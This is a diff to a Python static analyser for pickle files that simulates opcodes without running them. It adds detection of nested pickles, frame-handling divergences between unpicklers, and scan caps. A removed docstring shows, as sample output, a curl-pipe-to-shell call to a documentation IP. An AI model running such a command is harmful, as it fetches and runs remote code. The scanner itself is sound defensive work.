@@ -21,9 +21,12 @@ from pathlib import Path
 from typing import Any, BinaryIO
 
 from workbench.model.limits import ScanLimits
+from workbench.model.pickle_nested import carried_pickle
+from workbench.model.pickle_reader import NEUTRAL_STARTS, BigBytes, WalkReader, arg_reader
+from workbench.model.pickle_report import PickleCall, PickleImport, PickleReport, PickleStream, worst_safety
 from workbench.model.pickle_vm import Call, SimulationError, SymbolicMachine, render
 from workbench.model.policy import DANGEROUS, SAFE, UNKNOWN, ImportPolicy, default_policy
-from workbench.model.streams import BoundedReader, BudgetExceeded, LineTooLong, open_evidence
+from workbench.model.streams import BudgetExceeded, LineTooLong, open_evidence
 from workbench.textsafe import clean_text, replaced_reason
 
 __all__ = [
@@ -38,177 +41,97 @@ __all__ = [
     "worst_safety",
 ]
 
-_SAFETY_RANK = {SAFE: 0, UNKNOWN: 1, DANGEROUS: 2}
 #: opcode by byte value (None where the byte is no opcode), from pickletools' table
 _OPCODES = [pickletools.code2op.get(chr(b)) for b in range(256)]
-_GLOBAL_CODES = {b"c", b"i"}
+_GLOBAL_CODES = frozenset(b"ci")
+_FRAME, _STOP = 0x95, 0x2E
+#: opcodes pushing bytes or text (checked for a pickle they carry)
+_DATA_CODES = frozenset(b"BC\x8e\x96XV\x8c\x8dSTU")
+_LENIENT_CODES = frozenset(b"IL")
+_POPS = frozenset(b"01")  # POP, POP_MARK
+#: neutral pairs (push then POP) seen in a row before the rest of the run is skipped by pattern
+_PAIRS_BEFORE_SKIP = 8
+#: argument reader by opcode byte (None for opcodes without an argument)
+_READERS = [None if op is None else arg_reader(b, op) for b, op in enumerate(_OPCODES)]
 MAX_CALLS = 200
+#: imports kept per file (past it, only names not yet seen that are not safe)
+MAX_IMPORTS = 10_000
+#: problems, divergences and leniencies listed per file
+MAX_PROBLEMS = 200
+#: pickles nested in pickles: how deep, and how many per file
+MAX_NESTING = 3
+MAX_NESTED = 256
+#: shortest constant checked for a pickle it carries
+_MIN_CARRIER = 16
 #: what reading hostile or damaged bytes can raise (including decompressing streams)
 _PARSE_ERRORS = (ValueError, OverflowError, struct.error, EOFError, OSError, zlib.error, lzma.LZMAError)
 
 
-@dataclass(frozen=True, slots=True)
-class PickleImport:
-    """One global a pickle imports.
-
-    Attributes:
-        module / name: the imported global; None when it cannot be resolved statically.
-        offset: byte offset of the importing opcode (from the start of the file or archive member).
-        opcode: ``GLOBAL``, ``STACK_GLOBAL``, ``INST`` or ``EXT1/2/4``.
-        stream: index of the pickle stream (0 for the first).
-        safety: ``safe``, ``dangerous`` or ``unknown`` under the policy.
-        rule: policy rule that decided (None for unknown).
-        member: archive member holding the stream, or None.
-        note: anything odd about the opcode itself (e.g. invalid UTF-8).
-    """
-
-    module: str | None
-    name: str | None
-    offset: int
-    opcode: str
-    stream: int
-    safety: str
-    rule: str | None = None
-    member: str | None = None
-    note: str = ""
-
-    @property
-    def qualified(self) -> str:
-        """``module.name`` (``?`` for an unresolved part)."""
-        return f"{self.module or '?'}.{self.name or '?'}"
-
-
-@dataclass(frozen=True, slots=True)
-class PickleCall:
-    """A call the load would make to something not known-safe, rendered as text (never executed).
-
-    Attributes:
-        text: e.g. ``posix.system('curl -s http://203.0.113.7/p.sh | sh')``.
-        callee: the called global (``module.name``) or the rendered callee expression.
-        offset: byte offset of the calling opcode; opcode: ``REDUCE``, ``INST``, ``OBJ``, ``NEWOBJ``...
-        stream / member: where it is.
-        safety: the callee's class (``dangerous`` or ``unknown``).
-    """
-
-    text: str
-    callee: str
-    offset: int
-    opcode: str
-    stream: int
-    safety: str
-    member: str | None = None
-
-
-@dataclass(frozen=True, slots=True)
-class PickleStream:
-    """One pickle stream: ``start``/``end`` offsets (end None if it never reached STOP), protocol, opcode count."""
-
-    index: int
-    start: int
-    end: int | None
-    protocol: int | None
-    opcodes: int
-    error: str | None = None
-
-
-@dataclass(frozen=True, slots=True)
-class PickleReport:
-    """Everything the analysis found in one file or archive member.
-
-    Attributes:
-        member: archive member, or None for a standalone file.
-        streams / imports / calls: as found, in stream order.
-        trailing: offset where bytes that are not a pickle begin after the last stream, or None.
-        problems: what could not be followed, with offsets (truncation, invalid opcodes, budgets).
-        unexamined: what a cap (bytes, opcodes, streams, argument length) left unanalysed, with offsets.
-    """
+@dataclass(slots=True)
+class _FileState:
+    """What every stream of one file or member shares, nested pickles included."""
 
     member: str | None
-    streams: tuple[PickleStream, ...]
-    imports: tuple[PickleImport, ...]
-    calls: tuple[PickleCall, ...]
-    trailing: int | None = None
-    problems: tuple[str, ...] = ()
-    unexamined: tuple[str, ...] = ()
+    policy: ImportPolicy
+    limits: ScanLimits
+    context: str | None
+    opcodes_left: int
+    imports: list[PickleImport] = field(default_factory=list)
+    calls: list[PickleCall] = field(default_factory=list)
+    problems: list[str] = field(default_factory=list)
+    unexamined: list[str] = field(default_factory=list)
+    divergences: list[tuple[int, str]] = field(default_factory=list)
+    lenient: list[tuple[int, str]] = field(default_factory=list)
+    seen: set[tuple[str, str]] = field(default_factory=set)
+    nested: int = 0
 
-    @property
-    def safety(self) -> str:
-        """Worst class among the imports (``safe`` when there is none)."""
-        return worst_safety(i.safety for i in self.imports)
-
-    @property
-    def is_pickle(self) -> bool:
-        return bool(self.streams)
-
-
-def worst_safety(values: Any) -> str:
-    """The worst of ``safe`` < ``unknown`` < ``dangerous`` (``safe`` for none)."""
-    return max(values, key=_SAFETY_RANK.__getitem__, default=SAFE)
+    def problem(self, text: str) -> None:
+        if len(self.problems) < MAX_PROBLEMS:
+            self.problems.append(text)
+        elif len(self.problems) == MAX_PROBLEMS:
+            self.problems.append(f"more than {MAX_PROBLEMS} problems; the rest are not listed")
 
 
 @dataclass(slots=True)
 class _StreamState:
     index: int
-    member: str | None
-    policy: ImportPolicy
-    imports: list[PickleImport] = field(default_factory=list)
-    calls: list[PickleCall] = field(default_factory=list)
-    problems: list[str] = field(default_factory=list)
+    file: _FileState
+    depth: int = 0
+    path: str = ""
     note: str = ""
 
     def _clean(self, text: str, offset: int) -> str:
         cleaned, changed = clean_text(text)
         if changed:
-            self.problems.append(f"at offset {offset}: {replaced_reason('a string')}")
+            self.file.problem(f"at offset {offset}: {replaced_reason('a string')}")
         return cleaned
 
     def on_import(self, module: str | None, name: str | None, opcode: str, offset: int) -> str:
+        f = self.file
         module = self._clean(module, offset) if isinstance(module, str) else module
         name = self._clean(name, offset) if isinstance(name, str) else name
-        verdict = self.policy.classify(module, name)
+        verdict = f.policy.classify(module, name, f.context)
         safety = verdict.safety
         if self.note and safety == SAFE:
             safety = UNKNOWN
-        self.imports.append(
-            PickleImport(module, name, offset, opcode, self.index, safety, verdict.rule, self.member, self.note)
-        )
+        key = (f"{module}.{name}", safety)
+        if len(f.imports) < MAX_IMPORTS or (safety != SAFE and key not in f.seen and len(f.seen) < MAX_IMPORTS):
+            f.seen.add(key)
+            f.imports.append(PickleImport(module, name, offset, opcode, self.index, safety, verdict.rule, f.member,
+                                          self.note, self.path, verdict.resolved or ""))  # fmt: skip
         return safety
 
     def on_call(self, call: Call, offset: int) -> None:
         func = call.func
         safety = getattr(func, "safety", DANGEROUS)
-        if len(self.calls) < MAX_CALLS:
+        if len(self.file.calls) < MAX_CALLS:
             callee = self._clean(render(func, budget=120), offset)
             text = self._clean(render(call), offset)
-            self.calls.append(PickleCall(text, callee, offset, call.how, self.index, safety, self.member))
+            self.file.calls.append(PickleCall(text, callee, offset, call.how, self.index, safety, self.file.member,
+                                              self.path))  # fmt: skip
 
 
-def _iter_ops(reader: BoundedReader, note: Callable[[str], None]) -> Any:
-    """Opcodes of one stream as ``(opcode, arg, offset)``, like ``pickletools.genops`` but through a capped reader."""
-    read, tell = reader.read, reader.tell
-    while True:
-        pos = tell()
-        code = read(1)
-        if not code:
-            raise EOFError(f"at offset {pos}: pickle ends before STOP")
-        op = _OPCODES[code[0]]
-        if op is None:
-            raise ValueError(f"at offset {pos}: opcode {code!r} unknown")
-        try:
-            if code in _GLOBAL_CODES:
-                arg: Any = (_read_global_line(reader, pos, note), _read_global_line(reader, pos, note))
-            else:
-                arg = None if op.arg is None else op.arg.reader(reader)
-        except _PARSE_ERRORS as exc:
-            text = str(exc)
-            text = text if text.startswith("at offset") else f"at offset {pos}: {op.name}: {text}"
-            raise (type(exc) if isinstance(exc, BudgetExceeded | LineTooLong) else ValueError)(text) from None
-        yield op, arg, pos
-        if op.name == "STOP":
-            return
-
-
-def _read_global_line(reader: BoundedReader, pos: int, note: Callable[[str], None]) -> str:
+def _read_global_line(reader: WalkReader, pos: int, note: Callable[[str], None]) -> str:
     line = reader.readline()
     if not line.endswith(b"\n"):
         raise ValueError(f"at offset {pos}: GLOBAL/INST argument without newline")
@@ -227,6 +150,7 @@ def analyse_pickle(
     policy: ImportPolicy | None = None,
     limits: ScanLimits | None = None,
     max_streams: int | None = None,
+    context: str | None = None,
 ) -> PickleReport:
     """Analyse the pickle stream(s) read from ``raw`` (from its current position).
 
@@ -237,97 +161,226 @@ def analyse_pickle(
         policy: import policy (the shipped one by default).
         limits: caps (bytes, opcodes, streams, line length).
         max_streams: stop after this many streams (default ``limits.max_streams``).
+        context: the reader that loads this pickle, when it is not Python's unpickler (``torchscript`` for the
+            pickles of a TorchScript archive); enables the policy's rules for that reader.
 
     Returns:
         The :class:`PickleReport`; a report with no stream means the bytes are not a pickle.
     """
-    policy = policy or default_policy()
     limits = limits or ScanLimits()
-    reader = BoundedReader(
-        raw,
-        limit=limits.max_pickle_bytes,
-        max_line=limits.max_line_bytes,
-        skip_threshold=limits.skip_arg_bytes,
-        size=size,
-    )
+    state = _FileState(member, policy or default_policy(), limits, context, limits.max_opcodes)
+    streams, trailing = _walk(raw, size, state, max_streams, depth=0, path="")
+    return PickleReport(
+        member, tuple(streams), tuple(state.imports), tuple(state.calls), trailing, tuple(state.problems),
+        tuple(state.unexamined), tuple(state.divergences), tuple(state.lenient), state.nested,
+    )  # fmt: skip
+
+
+def _walk(
+    raw: BinaryIO, size: int | None, state: _FileState, max_streams: int | None, depth: int, path: str
+) -> tuple[list[PickleStream], int | None]:
+    limits = state.limits
+    reader = WalkReader(raw, limit=limits.max_pickle_bytes, max_line=limits.max_line_bytes,
+                        skip_threshold=limits.skip_arg_bytes, size=size)  # fmt: skip
     streams: list[PickleStream] = []
-    imports: list[PickleImport] = []
-    calls: list[PickleCall] = []
-    problems: list[str] = []
-    capped: list[str] = []
     trailing: int | None = None
-    opcodes = 0
     limit_streams = max_streams or limits.max_streams
+    where = f"{path} > " if path else ""
     while reader.peek_byte():
         start = reader.tell()
         if len(streams) >= limit_streams:
             trailing = start
             if max_streams is None:
-                capped.append(f"at offset {start}: more than {limit_streams} pickle streams; the rest is not analysed")
+                state.unexamined.append(f"{where}at offset {start}: more than {limit_streams} pickle streams; "
+                                        "the rest is not analysed")  # fmt: skip
             break
-        state = _StreamState(len(streams), member, policy)
-        stream, stopped = _run_stream(reader, state, limits.max_opcodes - opcodes)
-        opcodes += stream.opcodes
-        garbage = stream.opcodes == 0 or (stream.end is None and stream.protocol is None and not state.imports)
+        stream_state = _StreamState(len(streams), state, depth, path)
+        before = len(state.imports)
+        stream, stopped = _run_stream(reader, stream_state)
+        garbage = stream.opcodes == 0 or (
+            stream.end is None and stream.protocol is None and len(state.imports) == before
+        )
         if garbage:
             trailing = start
-            if not streams and stream.error:
-                problems.append(f"no pickle stream at offset {start}: {stream.error}")
+            if not streams and stream.error and not path:
+                state.problem(f"no pickle stream at offset {start}: {stream.error}")
             break
         streams.append(stream)
-        imports.extend(state.imports)
-        calls.extend(state.calls)
-        problems.extend(state.problems)
         if stopped:
-            capped.append(f"stream {stream.index}: {stream.error}; the rest is not analysed")
+            state.unexamined.append(f"{where}stream {stream.index}: {stream.error}; the rest is not analysed")
         elif stream.error:
-            problems.append(f"stream {stream.index}: {stream.error}")
+            state.problem(f"{where}stream {stream.index}: {stream.error}")
         if stopped or stream.end is None:
             break
-    return PickleReport(member, tuple(streams), tuple(imports), tuple(calls), trailing, tuple(problems), tuple(capped))
+    return streams, trailing
 
 
-def _run_stream(reader: BoundedReader, state: _StreamState, opcode_budget: int) -> tuple[PickleStream, bool]:
+def _run_stream(reader: WalkReader, state: _StreamState) -> tuple[PickleStream, bool]:
     """Follow one stream. Returns the stream record and whether a budget stopped the analysis."""
     start = reader.tell()
+    f = state.file
     machine = SymbolicMachine(state.on_import, state.on_call)
     simulating = True
     count = 0
     error: str | None = None
     end: int | None = None
+    frame_end: int | None = None
+    where = f"{state.path} > " if state.path else ""
 
     def note(text: str) -> None:
-        state.problems.append(text)
+        f.problem(where + text)
         state.note = "invalid UTF-8 in the GLOBAL/INST argument"
 
-    imports, step = state.imports, machine.step
+    imports, handlers, read, tell, ops, readers = (
+        f.imports,
+        machine.handlers,
+        reader.read,
+        reader.tell,
+        _OPCODES,
+        _READERS,
+    )
+    prev = pairs = 0
     try:
-        for op, arg, pos in _iter_ops(reader, note):
-            count += 1
-            if count > opcode_budget:
-                stream = PickleStream(state.index, start, None, machine.protocol, count - 1, "opcode budget reached")
+        while True:
+            pos = tell()
+            byte = read(1)
+            if not byte:
+                raise EOFError(f"at offset {pos}: pickle ends before STOP")
+            code = byte[0]
+            op = ops[code]
+            if op is None:
+                raise ValueError(f"at offset {pos}: opcode {byte!r} unknown")
+            if f.opcodes_left <= 0:
+                stream = PickleStream(state.index, start, None, machine.protocol, count, "opcode budget reached")
                 return stream, True
+            try:
+                if code in _GLOBAL_CODES:
+                    arg: Any = (_read_global_line(reader, pos, note), _read_global_line(reader, pos, note))
+                else:
+                    rd = readers[code]
+                    arg = None if rd is None else rd(reader)
+            except (BudgetExceeded, LineTooLong) as exc:
+                text = str(exc)
+                raise type(exc)(
+                    text if text.startswith("at offset") else f"at offset {pos}: {op.name}: {text}"
+                ) from None
+            except _PARSE_ERRORS as exc:
+                text = str(exc)
+                raise ValueError(
+                    text if text.startswith("at offset") else f"at offset {pos}: {op.name}: {text}"
+                ) from None
+            f.opcodes_left -= 1
+            count += 1
             name = op.name
+            if frame_end is not None or code == _FRAME:
+                frame_end = _frame(reader, state, name, arg, pos, frame_end)
+            if code in _DATA_CODES:
+                if len(arg) >= _MIN_CARRIER or hasattr(arg, "note"):
+                    _data(reader, state, name, arg, pos)
+            elif code in _LENIENT_CODES and hasattr(arg, "note"):
+                _lenient(state, pos, arg.note)
+            if code in _POPS:
+                if prev in NEUTRAL_STARTS:
+                    pairs += 1
+                    if pairs >= _PAIRS_BEFORE_SKIP:  # padding: the rest of the run is passed at regex speed
+                        count += reader.skip_run(prev, frame_end)
+                        pairs = 0
+                else:
+                    pairs = 0
+            prev = code
             if simulating:
                 before = len(imports)
                 try:
-                    step(name, arg, pos)
+                    handlers[name](name, arg, pos)
                 except (SimulationError, TypeError, ValueError) as exc:
                     simulating = False
-                    state.problems.append(f"at offset {pos}: {name} cannot be followed ({exc}); imports only from here")
+                    f.problem(f"{where}at offset {pos}: {name} cannot be followed ({exc}); imports only from here")
                     if len(imports) == before:
                         _import_without_stack(state, name, arg, pos)
             else:
                 _import_without_stack(state, name, arg, pos)
             if state.note:
                 state.note = ""
-            if name == "STOP":
-                end = reader.tell()
+            if code == _STOP:
+                end = tell()
+                break
     except (BudgetExceeded, LineTooLong) as exc:
         return PickleStream(state.index, start, None, machine.protocol, count, str(exc)), True
     except _PARSE_ERRORS as exc:
         error = str(exc)
     return PickleStream(state.index, start, end, machine.protocol, count, error), False
+
+
+def _lenient(state: _StreamState, pos: int, text: str) -> None:
+    lenient = state.file.lenient
+    if len(lenient) < MAX_PROBLEMS:
+        lenient.append((pos, f"{state.path} > {text}" if state.path else text))
+
+
+def _frame(reader: WalkReader, state: _StreamState, name: str, arg: Any, pos: int, frame_end: int | None) -> int | None:
+    """Follow framing as both unpicklers do: the C one ignores frame boundaries once a frame is loaded, the
+    pure-Python one fails on a read across a frame's end or a FRAME inside an unfinished frame. Where they part,
+    a divergence is recorded. Returns the end of the current frame, or None."""
+    here = reader.tell()
+    divergences = state.file.divergences
+    prefix = f"{state.path} > " if state.path else ""
+    if name == "FRAME":
+        if frame_end is not None and pos < frame_end and len(divergences) < MAX_PROBLEMS:
+            text = (
+                f"{prefix}a FRAME begins at offset {pos}, inside the frame ending at offset {frame_end}: the "
+                "pure-Python unpickler fails here, the C unpickler reads on"
+            )
+            divergences.append((pos, text))
+        new_end = here + int(arg)
+        size = reader.size
+        if size is not None and new_end > size and len(divergences) < MAX_PROBLEMS:
+            text = (
+                f"{prefix}the FRAME at offset {pos} announces {int(arg)} bytes, past the end of the data: the "
+                "C unpickler fails here, the pure-Python one reads what there is"
+            )
+            divergences.append((pos, text))
+        return new_end
+    if frame_end is not None and here > frame_end:
+        if pos < frame_end and len(divergences) < MAX_PROBLEMS:
+            text = (
+                f"{prefix}{name} at offset {pos} runs past the end of its FRAME (offset {frame_end}, the "
+                f"opcode ends at {here}): the C unpickler (pickle.load) reads on, the pure-Python unpickler "
+                "fails here; what follows is seen only by an unframed reading"
+            )
+            divergences.append((pos, text))
+        return None
+    return None if here == frame_end else frame_end
+
+
+def _data(reader: WalkReader, state: _StreamState, name: str, arg: Any, pos: int) -> None:
+    """A bytes or text constant: a pickle it carries is analysed in turn (depth, count and size caps)."""
+    if hasattr(arg, "note"):
+        _lenient(state, pos, arg.note)
+    big = isinstance(arg, BigBytes)
+    value = arg.head if big else arg
+    if len(value) < _MIN_CARRIER:
+        return
+    f = state.file
+    carried = carried_pickle(value, max_bytes=f.limits.skip_arg_bytes, size=len(arg) if big else None)
+    if carried is None:
+        return
+    label = f"{name} at offset {pos}"
+    if carried.encoding != "bytes":
+        label = f"{carried.encoding} text in {label}"
+    path = f"{state.path} > {label}" if state.path else label
+    if state.depth + 1 > MAX_NESTING:
+        f.unexamined.append(f"{path}: a pickle nested more than {MAX_NESTING} deep is not analysed")
+        return
+    if f.nested >= MAX_NESTED:
+        if f.nested == MAX_NESTED:
+            f.unexamined.append(f"{path}: more than {MAX_NESTED} nested pickles; the rest are not analysed")
+            f.nested += 1
+        return
+    f.nested += 1
+    if carried.truncated:
+        f.unexamined.append(f"{path}: a nested pickle of {carried.size} bytes; only its first {len(carried.data)} "
+                            "bytes are analysed")  # fmt: skip
+    _walk(io.BytesIO(carried.data), len(carried.data), f, None, state.depth + 1, path)
 
 
 def _import_without_stack(state: _StreamState, name: str, arg: Any, pos: int) -> None:
